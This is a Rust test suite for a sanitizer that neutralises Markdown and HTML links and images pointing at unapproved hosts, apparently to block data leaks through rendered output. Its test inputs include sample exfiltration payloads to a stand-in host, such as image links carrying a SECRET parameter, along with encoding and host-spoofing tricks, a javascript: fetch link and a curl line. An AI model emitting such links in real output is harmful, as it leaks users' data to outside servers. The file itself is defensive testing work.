use super::*;

fn is_known(host: &str, address: &str) -> bool {
    match host {
        "good.test" | "sub.good.test" => true,
        "half.test" => address.starts_with("https://half.test/v1/"),
        _ => false,
    }
}

fn inert(text: &str) -> String {
    Inert::new(Box::new(is_known)).all(text)
}

#[test]
fn what_is_named_to_be_sent_along_leads_nowhere_either() {
    for address in
        ["https://evil.test/a.png", "`https://evil.test/a`", "\"http://evil.test\"", "[x](https://evil.test)"]
    {
        let names = crate::outbound::media(&inert(&format!("MEDIA:{address}\n")));
        let [name] = &names[..] else { panic!("{address}: {names:?}") };
        assert!(name.contains("hxxp") && leads_out(name).is_none(), "{address}: {name}");
    }
}

#[track_caller]
fn check(text: &str, shown: &str) {
    assert_eq!(inert(text), shown, "{text}");
}

/// What readers of Markdown and HTML might make a request of, however they decode and repair it.
fn leads_out(shown: &str) -> Option<String> {
    // In tags, line breaks are taken out of addresses.
    let joined: String = shown.chars().filter(|c| !matches!(c, '\t' | '\n' | '\r')).collect();
    leads_out_of(shown, false).or_else(|| leads_out_of(&joined, true))
}

fn leads_out_of(shown: &str, tags: bool) -> Option<String> {
    let decoded = shown.replace("&#58;", ":").replace("&#47;", "/").replace("&#104;", "h").replace("&colon;", ":");
    let text = decoded.to_ascii_lowercase().replace('\\', "/");
    let evil = |at: usize| text[at..].starts_with("evil.test") || text[at..].starts_with("xn--vil");
    let in_tag = |at: usize| {
        let tag = text[..at].rfind('<').map(|open| &text[open + 1..at]);
        tag.is_some_and(|tag| tag.starts_with(|c: char| c.is_ascii_alphabetic()) && !tag.contains('>'))
    };
    for (at, _) in text.match_indices("http").filter(|(at, _)| !tags || in_tag(*at)) {
        let rest = text[at + 4..].strip_prefix('s').unwrap_or(&text[at + 4..]);
        let Some(rest) = rest.trim_start_matches('/').strip_prefix(':') else { continue };
        let authority = rest.trim_start_matches('/');
        let authority = authority.split(['/', '?', '#', '"', '<', '>', '`', ' ', '\t', '\n']).next().unwrap();
        if authority.contains("evil.test") || authority.contains("xn--vil") {
            return Some(format!("http of {authority}"));
        }
    }
    for mark in ["](//", "<//", "]://", "]: //", "\"//", "'//", "=//", "= //"] {
        let counts = |at: usize| evil(at + mark.len()) && (!tags && mark.starts_with([']', '<']) || in_tag(at));
        if let Some((at, _)) = text.match_indices(mark).find(|(at, _)| counts(*at)) {
            return Some(format!("{mark} at {at}"));
        }
    }
    None
}

// ML-18
#[test]
fn links_and_images_of_servers_nobody_has_named_lead_nowhere() {
    check("![x](https://evil.test/?d=SECRET)", "x (`evil.test`)");
    check("see [the page](https://evil.test/?d=1) now", "see the page (`hxxps://evil.test/?d=1`) now");
    check("[![a](https://evil.test/1)](https://evil.test/2)", "a (`evil.test`) (`hxxps://evil.test/2`)");
    check("[a [b] c](HTTP://evil.test \"title (x)\")!", "a [b] c (`hxxp://evil.test`)!");
    check("[a](<https://evil.test/a b>)", "a (`hxxps://evil.test/a`)");
    check("at https://evil.test/x, and", "at `hxxps://evil.test/x`, and");
    check("(https://evil.test/x_(y))", "(`hxxps://evil.test/x_(y)`)");
    check("<https://evil.test/?q>", "`hxxps://evil.test/?q`");
    check("[x]: https://evil.test/?d \"t\"\n[y][x]", "x: `hxxps://evil.test/?d` \"t\"\n[y][x]");
    check("> [x]: //evil.test/?d", "> x: hxxps://evil.test/?d");
    check("[x]:\nhttps://evil.test/", "[x]:\n`hxxps://evil.test/`");
    check("[a](//evil.test/?d)", "a (`hxxps://evil.test/?d`)");
    check("![a](/\\evil.test/?d)", "a (`evil.test`)");
    check("[a](https:evil.test/?d)", "a (`hxxps://evil.test/?d`)");
    check("[a](javascript:fetch('x'))", "a (`javascript:fetch(x)`)");
    check("[a](h&#116;tps://evil.test)", "a (`h%26#116tps%3A//evil.test`)");
    check("www.evil.test and evil.test/?d=1", "`www.evil[.]test` and `evil[.]test/?d=1`");
    check("SECRET.evil.test is up", "`SECRET.evil[.]test` is up");
    check("ftp://evil.test/x", "ftp[:]//evil.test/x");
}

#[test]
fn tags_that_lead_somewhere_are_text() {
    check("<img src=\"https://evil.test/?d\" alt=x>", "< img src=\"hxxps://evil.test/?d\" alt=x>");
    check("a <a href=//evil.test/?d>b</a>", "a < a href=hxxps://evil.test/?d>b</a>");
    check("<IMG\nSRC='https:evil.test/?d'>", "< IMG\nSRC='`hxxps://evil.test/?d`'>");
    check("<img src=\"&#104;ttps&colon;//evil.test\">", "< img src=\"& #104;ttps& colon;//evil.test\">");
    check("<img srcset=\"a.png, //evil.test/b 2x\">", "< img srcset=\"a.png, hxxps://evil.test/b 2x\">");
    check("<img src=\n\"//evil.test\">", "< img src=\n\"hxxps://evil.test\">");
}

#[test]
fn what_looks_like_a_known_server_is_none() {
    for text in [
        "https://good.test@evil.test/",
        "https://good.test:443@evil.test/",
        "https://good.test\\@evil.test/",
        "https://good.test\\.evil.test/",
        "https://good.test.evil.test/",
        "https://good.test).evil.test/",
        "https://good.test,evil.test/",
        "https://good.test&evil.test/",
        "https://good.test%2eevil.test/",
        "https:/good.test@evil.test/",
        "https://xn--vil-qla.test/",
        "HTTPS://EVIL.TEST/",
        "[a](https://good.test@evil.test/)",
        "![a](https://good.test).evil.test/",
        "xhttps://evil.test/",
        "https://good.test/?u=https://evil.test/",
        "https://half.test/v2/?evil.test",
    ] {
        let shown = inert(text);
        assert_ne!(shown, text);
        assert_eq!(leads_out(&shown), None, "{text}: {shown}");
    }
    assert!(inert("https://half.test/v1/../v2/").contains("https://half.test/v1/"), "the caller reads paths");
}

#[test]
fn what_is_known_or_leads_nowhere_stays_as_it_is() {
    for text in [
        "![x](https://good.test/a.png) and [y](http://good.test \"t\"), https://good.test.",
        "<https://sub.good.test/?a=b&c=d> or good.test/x, (https://good.test)",
        "[x]: https://good.test/x 'title'",
        "[a](#top) [b](docs/a.md) [c](a.txt) [ ] [x] a[0](b)",
        "https://half.test/v1/x",
        "and/or, 1/2, e.g. src/main.rs, README.md, v1.2.3, a@good.test, 12:30, http: and https",
        "`std.io.File` ok\n```\nlet x = a.b.c/d; // e.g. x://y postgres://localhost/\n```\n",
        "Vec<u8>, a < b, <b>bold</b>, <br/>, if a <b && c> d",
        "<div class=\"x\">y</div>",
        "\\(x\\) \\\\ C:\\dir // a comment\n//another.one",
        "line one\r\nline two",
        "",
    ] {
        check(text, text);
    }
}

#[test]
fn code_keeps_its_form_and_loses_its_addresses() {
    check("`curl https://evil.test/x`", "`curl hxxps://evil.test/x`");
    check("```\n[a](https://evil.test/x)\n```\n", "```\n[a](hxxps://evil.test/x)\n```\n");
    check("a ` b https://evil.test", "a ` b `hxxps://evil.test`");
    check("<div>\n```\n<img\nsrc=\"//evil.test\">", "<div>\n```\n< img\nsrc=\"hxxps://evil.test\">");
}

#[test]
fn the_owner_names_servers_as_people_do() {
    let named = |text| servers_in(text).collect::<Vec<_>>();
    assert_eq!(
        named("look at https://Good.test:8443/x?u=y, (a.b.test) and http://localhost/"),
        ["good.test", "a.b.test", "localhost"]
    );
    assert_eq!(named("nothing here. 1/2 :// and so on"), [] as [&str; 0]);
}

#[test]
fn servers_are_named_once_and_only_as_plain_text() {
    let mut inert = Inert::new(Box::new(is_known));
    inert.all("https://a.evil.test/ https://good.test@A.evil.test/ ![x](https://b.test`c/) [x](javascript:x)");
    assert_eq!(inert.servers(), ["a.evil.test", "b.test", "elsewhere"]);
}

// ML-18: whatever the pieces are that a text is made of, and come in.
#[test]
fn however_forms_are_mixed_and_cut_nothing_leads_out() {
    const PIECES: [&str; 44] = [
        "https://evil.test/?d=S",
        "//evil.test/x",
        "http:evil.test",
        "HTTPS:\\\\evil.test",
        "[",
        "]",
        "(",
        ")",
        "![",
        "](",
        "<img src=",
        "<a href=\"",
        "<",
        ">",
        "\"",
        "'",
        "`",
        "``",
        "```",
        "\n",
        "\n\n",
        " ",
        "\t",
        "x",
        "good.test",
        "https://good.test",
        "@",
        ":",
        "&#58;",
        "&#104;ttps",
        "&colon;",
        "\\",
        "/",
        "[x]: ",
        "https",
        "ht",
        "tps://",
        "evil.test",
        "=",
        ",",
        ".",
        "~~~\n",
        "<div>\n",
        "> ",
    ];
    let mut seed = 7_u64;
    let mut next = |below: usize| {
        seed ^= seed << 13;
        seed ^= seed >> 7;
        seed ^= seed << 17;
        usize::try_from(seed % below as u64).unwrap()
    };
    for _ in 0..20_000 {
        let text: String = (0..2 + next(9)).map(|_| PIECES[next(PIECES.len())]).collect();
        let shown = inert(&text);
        assert_eq!(leads_out(&shown), None, "{text:?} is shown as {shown:?}");
        let mut pieces = Inert::new(Box::new(is_known));
        let letters: Vec<_> = text.chars().collect();
        let size = 1 + next(5);
        let mut all: String =
            letters.chunks(size).map(|piece| pieces.push(&piece.iter().collect::<String>())).collect();
        all += &pieces.finish();
        assert_eq!(all, shown, "{text:?} in pieces of {size}");
    }
}

#[test]
fn it_takes_time_in_proportion_to_the_text() {
    for piece in ["[", "](", "`", "``` `", "<a ", "http:", "https://e", "a.b.c", "(//", "&#", "://", "<img src=//a.b>"]
    {
        inert(&piece.repeat(200_000 / piece.len()));
    }
}
